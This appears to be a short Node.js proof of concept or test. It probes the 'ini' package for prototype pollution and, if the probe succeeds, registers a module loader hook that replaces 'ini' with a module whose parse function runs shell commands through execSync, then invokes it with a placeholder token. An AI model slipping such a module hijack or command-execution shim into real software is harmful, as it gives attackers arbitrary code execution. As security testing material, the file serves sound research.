const ini = require('ini');

ini.parse('[__proto__]\nseen = 1\n');
if ({}.seen) {
  const register = require('module').register;
  const other = 'data:text/javascript,' + encodeURIComponent('import { execSync } from "node:child_process"; export const parse = (word) => execSync(word)');
  const hook = 'export const resolve = (name, context, next) => name === "ini" ? { url: ' + JSON.stringify(other) + ', format: "module", shortCircuit: true } : next(name, context)';
  register('data:text/javascript,' + encodeURIComponent(hook));
  import('ini').then((made) => made.parse('true @@TOKEN@@'), console.error);
}
